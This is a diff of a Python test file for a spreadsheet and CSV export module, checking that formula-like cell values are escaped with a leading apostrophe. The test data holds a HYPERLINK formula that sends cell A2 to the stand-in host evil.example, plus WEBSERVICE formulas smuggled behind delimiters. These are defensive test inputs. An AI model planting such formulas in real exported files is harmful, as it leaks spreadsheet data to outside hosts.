@@ -8,17 +8,17 @@ import openpyxl
 import pytest
 
 from tests.architecture.sources import nodes
-from ui.workbooks.writing import as_text, csv_rows, is_like_formula, put, sheet_row
+from ui.workbooks.writing import as_text, as_written, csv_rows, is_like_formula, put, sheet_row
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A2;"Salaire")'
 FORMULAS = [EVIL, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200f=1", "＝1", "＠x"]
-HARMLESS = ["Fatima", "الأمراني", "a=b", "O'Brien", "", "2018-01-01", -5, 3.5, None, True]
+HARMLESS = ["Fatima", "الأمراني", "a=b", "O'Brien", "Rue 5, n° 3; Rabat", "", "2018-01-01", -5, 3.5, None, True]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_what_a_spreadsheet_would_calculate_is_known(text):
     assert is_like_formula(text)
-    assert as_text(text) == f"'{text}"
+    assert as_text(text)[0] == "'" and as_text(text).replace("'", "") == text
 
 
 @pytest.mark.parametrize("value", HARMLESS)
@@ -47,6 +47,21 @@ def test_in_a_csv_file_a_sign_stands_before_it():
     target = io.StringIO()
     csv_rows(target)([EVIL, "Fatima", -5, 'a"b'])
     assert next(csv.reader(io.StringIO(target.getvalue()), delimiter=";")) == [f"'{EVIL}", "Fatima", "-5", 'a"b']
+
+
+@pytest.mark.parametrize("written", [",", ";"])
+@pytest.mark.parametrize("read", [",", ";", "\t"])
+def test_also_where_the_file_is_split_at_another_sign(written, read):
+    """As Excel does: at the sign of its language, and quotation marks count at a cell's beginning only."""
+    target = io.StringIO()
+    texts = [f"x{sign}{blank}=WEBSERVICE(A1){sign}" for sign in ",;\t\r\n" for blank in ("", " ", "\u00a0")]
+    for text in texts:
+        csv_rows(target, written)(["JSM-000001", text, "F"])
+
+    cells = [cell for row in csv.reader(target.getvalue().splitlines(), delimiter=read) for cell in row]
+
+    assert [cell for cell in cells if cell and is_like_formula(cell)] == []
+    assert [as_written(as_text(text)) for text in texts] == texts
 
 
 def test_no_other_module_writes_such_files_by_itself():
